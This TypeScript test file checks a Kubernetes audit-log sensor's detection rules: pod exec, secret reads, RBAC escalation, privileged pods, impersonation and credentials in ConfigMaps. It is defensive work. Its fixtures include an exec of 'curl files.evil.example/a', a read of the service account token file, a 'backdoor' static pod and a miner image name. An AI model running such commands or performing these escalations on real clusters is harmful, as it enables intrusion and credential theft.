import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { describe, expect, test } from '@jest/globals';
import { auditRules } from '../../../integrations/sensors/kubernetes-audit/rules.ts';
import { attackSamples, describeRecorded } from '../../playbooks/attack-samples.ts';
import { alertOf, fixture, itemsOf } from './read.ts';

const user = { username: 'eve', groups: ['system:authenticated'] };
const event = (change: object): object => ({
  kind: 'Event',
  apiVersion: 'audit.k8s.io/v1',
  level: 'Request',
  auditID: '00000000-0000-4000-8000-000000000009',
  stage: 'ResponseComplete',
  requestURI: '/api/v1/x',
  verb: 'get',
  user,
  sourceIPs: ['198.51.100.4'],
  responseStatus: { code: 200 },
  requestReceivedTimestamp: '2026-06-01T10:00:00.000001Z',
  stageTimestamp: '2026-06-01T10:00:00.000002Z',
  ...change,
});
const target = (resource: string, subresource?: string) => ({
  objectRef: { resource, namespace: 'shop', name: 'cart-1', apiVersion: 'v1', ...(subresource && { subresource }) },
});

const clusterWide = (resource: string, subresource?: string) => ({
  objectRef: { resource, name: 'x', apiVersion: 'v1', ...(subresource && { subresource }) },
});
const systemAccount = {
  objectRef: {
    resource: 'serviceaccounts',
    subresource: 'token',
    namespace: 'kube-system',
    name: 'clusterrole-aggregation-controller',
  },
};
const role = (verbs: readonly string[], resources: readonly string[]) => ({ rules: [{ apiGroups: [''], verbs, resources }] });
const made = (resource: string, requestObject: object) => ({ ...target(resource), verb: 'create', requestObject });
const binding = (kind: string, name: string) => ({ roleRef: { kind, name }, subjects: [{ kind: 'User', name: 'eve' }] });

/** One attribute of a subject in DER: a set of a sequence of its type (2.5.4.N) and a UTF8String. */
function attribute(type: number, text: string): Buffer {
  const value = Buffer.concat([Buffer.from([0x06, 0x03, 0x55, 0x04, type, 0x0c, text.length]), Buffer.from(text)]);
  const sequence = Buffer.concat([Buffer.from([0x30, value.length]), value]);
  return Buffer.concat([Buffer.from([0x31, sequence.length]), sequence]);
}

/** Just enough of a PKCS #10 request to name whom it is for. */
function csrOf(name: string, ...groups: readonly string[]) {
  const der = Buffer.concat([...groups.map((group) => attribute(10, group)), attribute(3, name)]);
  const pem = `-----BEGIN CERTIFICATE REQUEST-----\n${der.toString('base64')}\n-----END CERTIFICATE REQUEST-----\n`;
  return { spec: { request: Buffer.from(pem).toString('base64'), signerName: 'kubernetes.io/kube-apiserver-client' } };
}

describe('a batch', () => {
  test('gives one alert for an exec, about its pod, when it is answered', () => {
    const items = itemsOf(fixture('kubernetes-audit/rw-eventlist-two-items-exec.json'));
    expect(items.map(({ kind }) => kind)).toEqual(['ignored', 'alert']);
    expect(items[1]).toMatchObject({
      alert: {
        sensor: 'kubernetes-audit',
        rule: 'Exec into pod',
        severity: 'medium',
        time: '2026-06-01T10:00:00.000001Z',
        title: 'alice did create pods/exec team-a/api-0: sh',
        pod: { namespace: 'team-a', name: 'api-0' },
        process: { user: 'alice', commandLine: 'sh' },
        observables: [{ type: 'user', value: 'alice' }],
        mitre: ['T1609', 'TA0002'],
      },
    });
  });

  test('keeps for each item only its own bytes, whatever its size', () => {
    const small = event({ auditID: 'a-small-one', ...target('pods', 'exec') });
    const large = event({ auditID: 'a-large-one', ...target('secrets'), pad: 'x'.repeat(700_000) });
    const items = itemsOf({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: [large, small, large] });
    expect(items.map(({ kind }) => kind)).toEqual(['alert', 'alert', 'alert']);
    expect(JSON.parse(new TextDecoder().decode(items[1]?.raw))).toEqual(small);
  });

  test('one bad item fails alone, and an empty batch is not an error', () => {
    const items = itemsOf(
      { kind: 'EventList', items: [event(target('pods', 'exec')), 7, { auditID: 'x' }, null] },
      { sensor: 'kubernetes-audit' },
    );
    expect(items.map(({ kind }) => kind)).toEqual(['alert', 'rejected', 'rejected', 'rejected']);
    expect(itemsOf({ kind: 'EventList', items: [] })).toMatchObject([{ kind: 'ignored' }]);
  });

  test('escaped names, duplicate lists and odd whitespace do not confuse which list counts', () => {
    const one = JSON.stringify(event(target('pods', 'exec')));
    const text = `{"kind":"EventList","items":[${one},${one}] , "note" : "]}" ,"n":1,"\\u0069tems" : [ ${one} ] }`;
    expect(itemsOf(text)).toHaveLength(1);
  });
});

describe('one request', () => {
  test('for an exec names the container, the command and what that connects to', () => {
    const requestURI =
      '/api/v1/namespaces/shop/pods/cart-1/exec?command=sh&command=-c&command=curl+files.evil.example%2Fa&container=app&stdin=true';
    expect(alertOf(event({ ...target('pods', 'exec'), requestURI, sourceIPs: ['::ffff:198.51.100.4'] }))).toMatchObject({
      container: { name: 'app' },
      process: { user: 'eve', commandLine: 'sh -c curl files.evil.example/a' },
      observables: [
        { type: 'user', value: 'eve' },
        { type: 'ip', value: '198.51.100.4' },
        { type: 'domain', value: 'files.evil.example' },
      ],
    });
  });

  test('has the same id in all response stages', () => {
    const exec = target('pods', 'exec');
    const started = alertOf(event({ ...exec, stage: 'ResponseStarted', responseStatus: { code: 101 } }));
    expect(alertOf(event({ ...exec, stageTimestamp: '2026-06-01T11:00:00Z' })).id).toBe(started.id);
    expect(alertOf(event({ ...exec, auditID: 'another' })).id).not.toBe(started.id);
  });

  const secretRead = target('secrets');
  const as = (username: string, userAgent: string) => ({ user: { username }, userAgent });
  test.each([
    ['Exec into pod', { ...target('pods', 'exec'), verb: 'create' }],
    ['Attach to pod', { ...target('pods', 'attach'), verb: 'create' }],
    ['Port forward to pod', { ...target('pods', 'portforward'), verb: 'create' }],
    ['Ephemeral container added', { ...target('pods', 'ephemeralcontainers'), verb: 'patch' }],
    ['Proxy to node', { ...target('nodes', 'proxy'), verb: 'get' }],
    ['Secret read', { objectRef: { resource: 'secrets', namespace: 'shop', name: 'read-here' } }],
    ['Secrets listed', { ...secretRead, verb: 'list' }],
    ['Token requested', { ...target('serviceaccounts', 'token'), verb: 'create' }],
    ['RBAC changed', { ...clusterWide('clusterrolebindings'), verb: 'create' }],
    ['RBAC changed', { ...clusterWide('clusterroles'), verb: 'patch' }],
    ['RBAC of a namespace changed', { ...target('rolebindings'), verb: 'create', requestObject: binding('Role', 'unheard-of') }],
    // Its rules come from other roles.
    [
      'RBAC changed',
      {
        ...clusterWide('clusterroles'),
        verb: 'create',
        requestObject: { rules: [], aggregationRule: { clusterRoleSelectors: [{}] } },
      },
    ],
    ['RBAC deleted', { ...clusterWide('clusterroles'), verb: 'delete' }],
    ['Role that only reads', { ...target('rolebindings'), verb: 'create', requestObject: binding('ClusterRole', 'view') }],
    ['Role that only reads', { ...target('roles'), verb: 'create', requestObject: role(['get', 'list'], ['pods']) }],
    ['Role that may write', { ...target('roles'), verb: 'create', requestObject: role(['create'], ['deployments']) }],
    ['Role with wildcards', { ...target('roles'), verb: 'create', requestObject: role(['get'], ['*']) }],
    ['Role with dangerous rights', { ...target('roles'), verb: 'create', requestObject: role(['create'], ['pods/exec']) }],
    ['Role with dangerous rights', { ...target('roles'), verb: 'create', requestObject: role(['get'], ['secrets']) }],
    ['Role with dangerous rights', { ...target('roles'), verb: 'patch', requestObject: role(['escalate'], ['roles']) }],
    ['Role with dangerous rights', { ...target('rolebindings'), verb: 'create', requestObject: binding('ClusterRole', 'edit') }],
    [
      'Rights given to everybody',
      {
        ...target('rolebindings'),
        verb: 'create',
        requestObject: { ...binding('Role', 'x'), subjects: [{ name: 'system:anonymous' }] },
      },
    ],
    ['System account made', { objectRef: { resource: 'serviceaccounts', namespace: 'kube-system' }, verb: 'create' }],
    ['Token of a system account requested', { ...systemAccount, verb: 'create' }],
    [
      'Token requested by its own account',
      { ...target('serviceaccounts', 'token'), verb: 'create', user: { username: 'system:serviceaccount:shop:cart-1' } },
    ],
    [
      'Token that does not end',
      { ...secretRead, verb: 'create', requestObject: { type: 'kubernetes.io/service-account-token' } },
    ],
    ['Secrets of all namespaces listed', { ...clusterWide('secrets'), verb: 'list' }],
    [
      'Credentials read by exec',
      {
        ...target('pods', 'exec'),
        verb: 'create',
        requestURI: '/x/exec?command=cat&command=/run/secrets/kubernetes.io/serviceaccount/token',
      },
    ],
    [
      'Credentials in a ConfigMap',
      {
        ...target('configmaps'),
        verb: 'create',
        requestObject: { data: { AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' } },
      },
    ],
    ['Service opened on every node', { ...target('services'), verb: 'create', requestObject: { spec: { type: 'NodePort' } } }],
    [
      'Service opened to the outside',
      { ...target('services'), verb: 'create', requestObject: { spec: { type: 'LoadBalancer' } } },
    ],
    [
      'Service takes addresses of others',
      { ...target('services'), verb: 'patch', requestObject: { spec: { externalIPs: ['203.0.113.9'] } } },
    ],
    ['Ingress for all hosts', { ...target('ingresses'), verb: 'create', requestObject: { spec: { defaultBackend: {} } } }],
    [
      'Ingress for all hosts',
      { ...target('ingresses'), verb: 'update', requestObject: { spec: { rules: [{ host: 'shop.example' }, { http: {} }] } } },
    ],
    [
      'System certificate requested',
      { ...clusterWide('certificatesigningrequests'), verb: 'create', requestObject: csrOf('system:kube-controller-manager') },
    ],
    [
      'System certificate requested',
      { ...clusterWide('certificatesigningrequests', 'approval'), verb: 'update', requestObject: csrOf('eve', 'system:masters') },
    ],
    [
      'Cluster administrator bound',
      { ...target('clusterrolebindings'), verb: 'create', requestObject: { roleRef: { name: 'cluster-admin' } } },
    ],
    [
      'Role with all rights',
      { ...target('clusterroles'), verb: 'update', requestObject: { rules: [{ verbs: ['*'], resources: ['*'] }] } },
    ],
    ['Admission control changed', { ...target('validatingwebhookconfigurations'), verb: 'delete' }],
    ['Pod that opens the node', { ...target('pods'), verb: 'create', requestObject: { spec: { hostPID: true } } }],
    [
      'Pod that opens the node',
      {
        ...target('cronjobs'),
        verb: 'create',
        requestObject: {
          spec: { jobTemplate: { spec: { template: { spec: { containers: [{ securityContext: { privileged: true } }] } } } } },
        },
      },
    ],
    ['Certificate approved', { ...target('certificatesigningrequests', 'approval'), verb: 'update' }],
    ['Objects deleted in bulk', { ...target('pods'), verb: 'deletecollection' }],
    ['Namespace deleted', { objectRef: { resource: 'namespaces', name: 'shop' }, verb: 'delete' }],
    ['Events deleted', { ...target('events'), verb: 'delete' }],
    ['Anonymous request allowed', { ...secretRead, user: { username: 'system:anonymous' }, requestURI: '/api/v1/secrets' }],
  ])('%s', (rule, change) => expect(alertOf(event(change)).rule).toBe(rule));

  const actingAs = (username: string, ...groups: readonly string[]) => ({
    impersonatedUser: { username, groups: [...groups, 'system:authenticated'] },
  });
  const system = (resource: string, name?: string, apiGroup = '') => ({
    objectRef: { resource, namespace: 'kube-system', apiVersion: 'v1', apiGroup, ...(name !== undefined && { name }) },
  });
  const ephemeral = (container: object) => ({
    ...target('pods', 'ephemeralcontainers'),
    verb: 'patch',
    requestObject: { spec: { ephemeralContainers: [{ name: 'debugger-x2x8k', image: 'busybox', ...container }] } },
    responseObject: { spec: { containers: [{ name: 'app', securityContext: { privileged: true } }] } },
  });
  const volume = (source: object) => ({ ...clusterWide('persistentvolumes'), verb: 'create', requestObject: { spec: source } });
  const staticPod = (namespace: string) => ({
    objectRef: { resource: 'pods', namespace, name: 'backdoor-node-1', apiVersion: 'v1' },
    verb: 'create',
    requestObject: { metadata: { annotations: { 'kubernetes.io/config.mirror': '0f' } }, spec: { containers: [{ name: 'a' }] } },
    ...as('system:node:node-1', 'kubelet/v1.36.3 (linux/amd64) kubernetes/abc'),
  });
  const level = (value: string | null) => ({ metadata: { labels: { 'pod-security.kubernetes.io/enforce': value } } });
  const flow = { ...clusterWide('flowschemas'), verb: 'patch', requestObject: { spec: { matchingPrecedence: 1 } } };
  const template = { spec: { containers: [{ securityContext: { privileged: true } }] } };
  test.each<[string, string, object]>([
    ['high', 'Part of Kubernetes impersonated', { ...target('pods'), verb: 'list', ...actingAs('eve', 'system:masters') }],
    ['high', 'Part of Kubernetes impersonated', { ...target('pods', 'exec'), ...actingAs('system:kube-scheduler') }],
    [
      'high',
      'Part of Kubernetes impersonated',
      { ...secretRead, ...actingAs('system:serviceaccount:kube-system:namespace-controller') },
    ],
    ['low', 'Secret read', { ...secretRead, ...actingAs('system:serviceaccount:shop:cart') }],
    ['low', 'Service account impersonated', { ...target('pods'), ...actingAs('system:serviceaccount:shop:cart') }],
    ['high', 'Pod that opens the node', ephemeral({ securityContext: { privileged: true } })],
    ['medium', 'Ephemeral container added', ephemeral({})],
    ['high', 'Volume that opens the node', volume({ hostPath: { path: '/' } })],
    ['high', 'Volume that opens the node', volume({ hostPath: { path: '/var/' } })],
    ['high', 'Volume that opens the node', volume({ local: { path: '/var/lib/kubelet/pods' } })],
    ['low', 'Volume of a path of a node', volume({ hostPath: { path: '/opt/local-path-provisioner/pvc-1' } })],
    ['high', 'Static pod outside of kube-system', staticPod('default')],
    [
      'high',
      'API served by somebody else',
      {
        ...clusterWide('apiservices'),
        verb: 'create',
        requestObject: {
          spec: { group: 'metrics.k8s.io', service: { namespace: 'shop', name: 'mine' }, insecureSkipTLSVerify: true },
        },
      },
    ],
    ['high', 'Priority of requests changed', flow],
    ['high', 'Priority of requests changed', { ...clusterWide('prioritylevelconfigurations'), verb: 'delete' }],
    ['high', 'Pod that opens the node', made('replicationcontrollers', { spec: { template } })],
    ['high', 'Role with dangerous rights', made('clusterroles', role(['create'], ['*/exec']))],
    ['high', 'Role with dangerous rights', made('clusterroles', role(['create'], ['*/token']))],
    ['high', 'Role with dangerous rights', made('clusterroles', role(['create'], ['persistentvolumes']))],
    ['medium', 'Token that lets a node join', { ...system('secrets', 'bootstrap-token-abcdef'), verb: 'create' }],
    ['high', 'Accounts of the cluster changed', { ...system('configmaps', 'aws-auth'), verb: 'patch' }],
    ['medium', 'DNS of the cluster changed', { ...system('configmaps', 'coredns'), verb: 'update' }],
    ['low', 'Proxy to pod or Service', { ...target('pods', 'proxy'), verb: 'get' }],
    ['low', 'Proxy to pod or Service', { ...target('services', 'proxy'), verb: 'create' }],
    ['medium', 'Pod Security lowered', { ...clusterWide('namespaces'), verb: 'patch', requestObject: level('privileged') }],
    ['medium', 'Pod Security lowered', { ...clusterWide('namespaces'), verb: 'patch', requestObject: level(null) }],
  ])('%s: %s', (severity, rule, change) => expect(alertOf(event(change))).toMatchObject({ severity, rule }));

  test.each<[string, object]>([
    ['a node’s static pod of Kubernetes itself', staticPod('kube-system')],
    ['a volume of a driver', volume({ csi: { driver: 'ebs.csi.aws.com' } })],
    ['another level of Pod Security', { ...clusterWide('namespaces'), verb: 'patch', requestObject: level('restricted') }],
    [
      'another label of a namespace',
      { ...clusterWide('namespaces'), verb: 'patch', requestObject: { metadata: { labels: { a: 'b' } } } },
    ],
    [
      'a namespace that is created privileged',
      { ...clusterWide('namespaces'), verb: 'create', requestObject: level('privileged') },
    ],
    [
      'a ConfigMap of that name elsewhere',
      { ...made('configmaps', { data: {} }), objectRef: { resource: 'configmaps', namespace: 'shop', name: 'coredns' } },
    ],
    ['someone impersonating another person', { ...target('pods'), ...actingAs('alice') }],
    ['what the API server does to priorities', { ...flow, ...as('system:apiserver', 'kube-apiserver/v1.36.3 (linux/amd64)') }],
  ])('%s is not an alert', (_what, change) => expect(itemsOf(event(change))).toMatchObject([{ kind: 'ignored' }]));

  const patch = (...operations: readonly object[]) => ({ verb: 'patch', requestObject: operations });
  const add = (path: string, value: unknown) => ({ op: 'add', path, value });
  const privileged = { name: 'a', securityContext: { privileged: true } };
  test.each([
    ['Role with all rights', clusterWide('clusterroles'), add('/rules/-', { verbs: ['*'], resources: ['*'] })],
    ['Role with wildcards', clusterWide('clusterroles'), add('/rules/0/verbs/-', '*')],
    ['Role with dangerous rights', target('roles'), add('/rules', [{ verbs: ['get'], resources: ['secrets'] }])],
    // What the role granted before is not in the event.
    ['RBAC changed', clusterWide('clusterroles'), add('/rules/-', { verbs: ['get'], resources: ['pods'] })],
    ['Cluster administrator bound', clusterWide('clusterrolebindings'), add('/subjects/-', { name: 'system:masters' })],
    ['Pod that opens the node', target('deployments'), add('/spec/template/spec/containers/0', privileged)],
    ['Pod that opens the node', target('deployments'), add('/spec/template/spec/hostPID', true)],
    ['Pod that opens the node', target('deployments'), add('', { spec: { template: { spec: { hostPID: true } } } })],
    ['Service opened on every node', target('services'), { op: 'replace', path: '/spec/type', value: 'NodePort' }],
    ['Service opened to the outside', target('services'), { op: 'replace', path: '/spec/type', value: 'LoadBalancer' }],
    ['Service takes addresses of others', target('services'), add('/spec/externalIPs/-', '203.0.113.9')],
    ['Ingress for all hosts', target('ingresses'), add('/spec/rules/-', { http: {} })],
    ['Ingress for all hosts', target('ingresses'), { op: 'replace', path: '/spec/rules/0', value: { http: {} } }],
    ['Ingress for all hosts', target('ingresses'), { op: 'replace', path: '/spec/rules/0/host', value: '*' }],
    ['Ingress for all hosts', target('ingresses'), { op: 'remove', path: '/spec/rules/0/host' }],
    ['Ingress for all hosts', target('ingresses'), { op: 'move', from: '/spec/rules/0/host', path: '/metadata/labels/host' }],
    // `enableServiceLinks` is true in every template: a copy of it opens the node although the event contains no value.
    [
      'Written by a copy',
      target('deployments'),
      { op: 'copy', from: '/spec/template/spec/enableServiceLinks', path: '/spec/template/spec/hostPID' },
    ],
    ['Written by a copy', target('roles'), { op: 'copy', from: '/metadata/annotations/all', path: '/rules/0/verbs/0' }],
    ['Written by a copy', target('services'), { op: 'move', from: '/metadata/labels/type', path: '/spec/type' }],
    ['Credentials in a ConfigMap', target('configmaps'), add('/data/0', 'AKIAIOSFODNN7EXAMPLE')],
    ['Credentials in a ConfigMap', target('configmaps'), add('/data/a~1b', 'AKIAIOSFODNN7EXAMPLE')],
  ])('%s, by a JSON patch', (rule, on, operation) => {
    expect(alertOf(event({ ...on, ...patch({ op: 'test', path: '/x', value: 1 }, operation) })).rule).toBe(rule);
  });

  test.each<[string, object, object]>([
    // The rule's host stays, as in what kubectl patch --type=json sends for another backend.
    ['another path of a rule', target('ingresses'), { op: 'replace', path: '/spec/rules/0/http', value: { paths: [] } }],
    ['another port of a path', target('ingresses'), add('/spec/rules/0/http/paths/0/backend/service/port/number', 8080)],
    ['a copy within the metadata', target('deployments'), { op: 'copy', from: '/metadata/labels/a', path: '/metadata/labels/b' }],
    ['a removal', target('deployments'), { op: 'remove', path: '/spec/template/spec/containers/0/securityContext' }],
  ])('%s, by a JSON patch, is not an alert', (_what, on, operation) => {
    expect(itemsOf(event({ ...on, ...patch(operation) }))).toMatchObject([{ kind: 'ignored' }]);
  });

  const harmless = { verbs: ['get'], resources: ['pods'] };
  const manyOf = (value: unknown): readonly unknown[] => Array.from({ length: 2_000 }, () => value);
  test.each<[string, object]>([
    ['Role with all rights', made('roles', { rules: [...manyOf(harmless), { verbs: ['*'], resources: ['*'] }] })],
    ['Role with wildcards', made('roles', { rules: [{ verbs: [...manyOf('get'), '*'], resources: ['pods'] }] })],
    [
      'Rights given to everybody',
      made('rolebindings', { ...binding('Role', 'x'), subjects: [...manyOf({ name: 'eve' }), { name: 'system:authenticated' }] }),
    ],
    ['Pod that opens the node', made('pods', { spec: { volumes: [...manyOf({ emptyDir: {} }), { hostPath: { path: '/' } }] } })],
    [
      'Pod that opens the node',
      {
        ...target('deployments'),
        ...patch(...manyOf({ op: 'test', path: '/kind', value: 'x' }).map(Object), add('/spec/template/spec/hostPID', true)),
      },
    ],
    // The API server reads a list index as a number, with any number of leading zeros.
    ['Role with wildcards', { ...target('roles'), ...patch(add(`/rules/${'0'.repeat(2_000)}/verbs/-`, '*')) }],
  ])('%s, however much comes before it', (rule, change) => expect(alertOf(event(change)).rule).toBe(rule));

  test('a role that a JSON patch gave all rights is recognized when it is bound', () => {
    const given = { objectRef: { resource: 'clusterroles', name: 'grown' } };
    expect(alertOf(event({ ...given, ...patch(add('/rules/-', { verbs: ['*'], resources: ['*'] })) })).rule).toContain('all');
    const bound = { ...clusterWide('clusterrolebindings'), verb: 'create', requestObject: binding('ClusterRole', 'grown') };
    expect(alertOf(event(bound)).rule).toBe('Cluster administrator bound');
  });

  test('credentials in a file of a ConfigMap are seen', () => {
    const binaryData = { id_rsa: Buffer.from(`-----BEGIN RSA PRIVATE KEY-----\n${'MIIE'.repeat(40)}\n`).toString('base64') };
    const made = { ...target('configmaps'), verb: 'create', requestObject: { binaryData } };
    expect(alertOf(event(made)).rule).toBe('Credentials in a ConfigMap');
  });

  test('a credential in a ConfigMap is seen behind thousands of harmless values, and far back in one', () => {
    const secret = { AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' };
    const harmless = Object.fromEntries(Array.from({ length: 5_000 }, (_, n) => [`color-${n}`, 'blue']));
    for (const data of [
      { ...harmless, ...secret },
      { notes: `${'blue '.repeat(100_000)}\n${Object.entries(secret)[0]?.join('=')}` },
    ])
      expect(alertOf(event({ ...target('configmaps'), verb: 'create', requestObject: { data } })).rule).toBe(
        'Credentials in a ConfigMap',
      );
    // Two values are never joined into one.
    const apart = { data: { password: '', 'set-cookie': 'Set-Cookie:', token: '', x: 'blue' } };
    expect(itemsOf(event({ ...target('configmaps'), verb: 'create', requestObject: apart }))).toMatchObject([
      { kind: 'ignored' },
    ]);
  });

  test.each([
    ['at level Metadata', { level: 'Metadata' }],
    ['cut by the API server', { annotations: { 'audit.k8s.io/truncated': 'true' } }],
  ])('whose content is %s says what rules cannot check', (why, how) => {
    const made = { ...target('configmaps'), verb: 'create', ...how };
    expect(itemsOf(event(made))).toMatchObject([{ kind: 'ignored', lacks: `the content of configmaps, ${why}` }]);
    const bound = { ...clusterWide('clusterrolebindings'), verb: 'create', ...how };
    expect(itemsOf(event(bound))).toMatchObject([{ kind: 'alert', lacks: `the content of clusterrolebindings, ${why}` }]);
    const others = [
      { ...made, responseStatus: { code: 409 } },
      { ...made, verb: 'get' },
      { ...made, requestObject: { data: {} } },
    ];
    for (const other of others) expect(itemsOf(event(other))[0]).not.toHaveProperty('lacks');
  });

  test('every rule has a name of its own and is documented as it is', () => {
    expect(new Set(auditRules.map(({ name }) => name)).size).toBe(auditRules.length);
    const page = readFileSync(join(import.meta.dirname, '../../../docs/sensors/kubernetes-audit.md'), 'utf8');
    const rows = auditRules.map(({ name, severity, about }) => `| ${name} | ${severity} | ${about} |`);
    expect(page).toContain(rows.join('\n'));
  });

  test.each([
    ['a get of a pod', target('pods')],
    [
      'the control plane’s listing of secrets',
      {
        ...clusterWide('secrets'),
        verb: 'list',
        ...as('system:kube-controller-manager', 'kube-controller-manager/v1.36.3 (linux/amd64)'),
      },
    ],
    ['a node’s reading of one', { ...secretRead, ...as('system:node:n1', 'kubelet/v1.36.3 (linux/amd64)') }],
    [
      'a node that asks for its own certificate',
      {
        ...clusterWide('certificatesigningrequests'),
        verb: 'create',
        requestObject: csrOf('system:node:n1', 'system:nodes'),
        ...as('system:node:n1', 'other/1'),
      },
    ],
    [
      'the namespace controller’s cleaning',
      {
        ...target('pods'),
        verb: 'deletecollection',
        ...as('system:serviceaccount:kube-system:namespace-controller', 'k3s/v1.36.3+k3s1 (linux/amd64)'),
      },
    ],
    ['a plain pod', { ...target('pods'), verb: 'create', requestObject: { spec: { containers: [{ name: 'a' }] } } }],
    ['a secret that does not exist', { ...secretRead, responseStatus: { code: 404 } }],
    ['anonymous health', { user: { username: 'system:anonymous' }, requestURI: '/livez?verbose' }],
    ['anonymous discovery', { user: { username: 'system:anonymous' }, requestURI: '/apis/apps/v1' }],
    ['the first stage', { ...secretRead, stage: 'RequestReceived' }],
  ])('%s is not an alert', (_what, change) => expect(itemsOf(event(change))).toMatchObject([{ kind: 'ignored' }]));

  test('that was refused has low severity, whatever it would have been', () => {
    const refused = alertOf(event({ ...target('pods', 'exec'), responseStatus: { code: 403 } }));
    expect(refused).toMatchObject({
      rule: 'Exec into pod (refused)',
      severity: 'low',
      title: expect.stringContaining('was refused'),
    });
  });

  test('with a pod’s token for something else is about that pod', () => {
    const extra = {
      'authentication.kubernetes.io/pod-name': ['cart-1'],
      'authentication.kubernetes.io/pod-uid': ['u-1'],
      'authentication.kubernetes.io/node-name': ['n1'],
    };
    const own = { username: 'system:serviceaccount:shop:cart', extra };
    expect(alertOf(event({ ...secretRead, user: own }))).toMatchObject({
      pod: { namespace: 'shop', name: 'cart-1', uid: 'u-1' },
      node: 'n1',
      process: { user: 'system:serviceaccount:shop:cart' },
    });
    expect(alertOf(event({ ...secretRead, user: { username: 'eve', extra } }))).not.toHaveProperty('pod');
  });

  test('that binds a role seen being written is as severe as that role', () => {
    const all = { kind: 'ClusterRole', name: 'of-ones-own' };
    const made = (requestObject: object, resource: string) =>
      alertOf(event({ objectRef: { resource, name: 'of-ones-own' }, verb: 'create', requestObject })).rule;
    expect(made(binding('ClusterRole', 'of-ones-own'), 'clusterrolebindings')).toBe('RBAC changed');
    expect(made(role(['*'], ['*']), 'clusterroles')).toBe('Role with all rights');
    expect(made({ roleRef: all, subjects: [] }, 'clusterrolebindings')).toBe('Cluster administrator bound');
    expect(made(role(['get'], ['pods']), 'clusterroles')).toBe('Role that only reads');
    expect(made({ roleRef: all, subjects: [] }, 'clusterrolebindings')).toBe('Role that only reads');
  });

  test('says whose certificate it is about', () => {
    const asked = {
      ...clusterWide('certificatesigningrequests'),
      verb: 'create',
      requestObject: csrOf('system:admin', 'system:masters'),
    };
    expect(alertOf(event(asked)).title).toBe('eve did create certificatesigningrequests x for system:admin, system:masters');
  });

  test('that RBAC let through to a node is reported even if it failed there; one for a missing pod is not', () => {
    const exec = { ...target('pods', 'exec'), verb: 'create' };
    expect(alertOf(event({ ...exec, responseStatus: { code: 400 } })).title).toBe('eve tried to create pods/exec shop/cart-1');
    expect(alertOf(event({ ...target('nodes', 'proxy'), responseStatus: { code: 502 } })).rule).toBe('Proxy to node');
    expect(itemsOf(event({ ...exec, responseStatus: { code: 404 } }))).toMatchObject([{ kind: 'ignored' }]);
  });
});

describe('the name of a part of Kubernetes', () => {
  const kubectl = 'kubectl/v1.36.3 (linux/amd64) kubernetes/abc';
  const manager = 'kube-controller-manager/v1.36.3 (linux/amd64) kubernetes/abc';
  const aggregation = 'system:serviceaccount:kube-system:clusterrole-aggregation-controller';
  const everything = { rules: [{ verbs: ['*'], resources: ['*'] }] };
  const by = (username: string, userAgent: string | undefined, change: object) =>
    event({ user: { username }, ...(userAgent && { userAgent }), ...change });

  test.each([
    [
      'Control plane identity used elsewhere',
      'system:kube-controller-manager',
      kubectl,
      { ...clusterWide('secrets'), verb: 'list' },
    ],
    [
      'Secrets of all namespaces listed',
      'system:kube-controller-manager',
      undefined,
      { ...clusterWide('secrets'), verb: 'list' },
    ],
    ['Control plane identity used elsewhere', 'system:kube-controller-manager', kubectl, target('pods')],
    ['Control plane identity used elsewhere', 'system:kube-scheduler', 'curl/8.5.0', target('pods')],
    [
      'Token requested',
      'system:kube-controller-manager',
      'another-program/1',
      { ...target('serviceaccounts', 'token'), verb: 'create' },
    ],
    ['Secrets of all namespaces listed', aggregation, manager, { ...clusterWide('secrets'), verb: 'list' }],
    [
      'Role with all rights',
      aggregation,
      'another-program/1',
      { ...clusterWide('clusterroles'), verb: 'patch', requestObject: everything },
    ],
    ['Secret read', 'system:kube-scheduler', 'kube-scheduler/v1.36.3', target('secrets')],
    [
      'Secrets listed',
      'system:node:n1',
      'kubelet/v1.36.3',
      { objectRef: { resource: 'secrets', namespace: 'shop' }, verb: 'list' },
    ],
    ['Secrets listed', 'system:serviceaccount:kube-system:some-add-on', 'add-on/1', { ...target('secrets'), verb: 'list' }],
  ])('alone is not believed: %s by %s with %s', (rule, username, userAgent, change) => {
    expect(alertOf(by(username, userAgent, change)).rule).toBe(rule);
  });

  test('is not believed for an impersonated user', () => {
    const impersonatedUser = { username: 'system:kube-controller-manager' };
    const change = { ...clusterWide('secrets'), verb: 'list', impersonatedUser };
    expect(alertOf(by('eve', manager, change)).rule).toBe('Part of Kubernetes impersonated');
  });

  test('is believed only from the control plane’s addresses, if they are configured', () => {
    const list = (ip: string) =>
      itemsOf(by('system:kube-controller-manager', manager, { ...clusterWide('secrets'), verb: 'list', sourceIPs: [ip] }), {
        severities: { 'kubernetes-audit': { severities: {}, controlPlane: ['10.0.0.0/28'] } },
      }).map(({ kind }) => kind);
    expect(['10.0.0.3', '127.0.0.1', '::1', '::ffff:10.0.0.4'].map(list)).toEqual(Array.from({ length: 4 }, () => ['ignored']));
    expect(['10.0.1.3', '203.0.113.9', 'rubbish'].map(list)).toEqual(Array.from({ length: 3 }, () => ['alert']));
  });
});

describe('images', () => {
  const settings = {
    severities: { 'kubernetes-audit': { severities: {}, registries: ['registry.example.com/shop', 'docker.io/library'] } },
  };
  const pod = (image: string) =>
    event({ ...target('pods'), verb: 'create', requestObject: { spec: { containers: [{ name: 'a', image }] } } });

  test.each(['evil.example/miner', 'registry.example.com/other/x:1', 'registry.example.com/shopping/x', 'somebody/miner:latest'])(
    '%s is outside the allowed registries',
    (image) => expect(itemsOf(pod(image), settings)).toMatchObject([{ alert: { rule: 'Image outside the allowed registries' } }]),
  );

  test.each(['registry.example.com/shop/cart@sha256:00', 'nginx:1.27'])('%s is inside', (image) =>
    expect(itemsOf(pod(image), settings)).toMatchObject([{ kind: 'ignored' }]),
  );

  test('are not checked when no registries are configured', () => {
    expect(itemsOf(pod('evil.example/miner'))).toMatchObject([{ kind: 'ignored' }]);
  });
});

describeRecorded('what was recorded', () => {
  const parsedIn = (file: string) => {
    const bytes = readFileSync(join(attackSamples, file));
    const list = JSON.parse((file.endsWith('.gz') ? gunzipSync(bytes) : bytes).toString());
    return itemsOf({ kind: 'EventList', items: list.items });
  };
  const alertsIn = (file: string): readonly string[] => {
    const items = parsedIn(file);
    return [...new Set(items.flatMap((item) => (item.kind === 'alert' ? [`${item.alert.severity}: ${item.alert.rule}`] : [])))];
  };

  test.each([
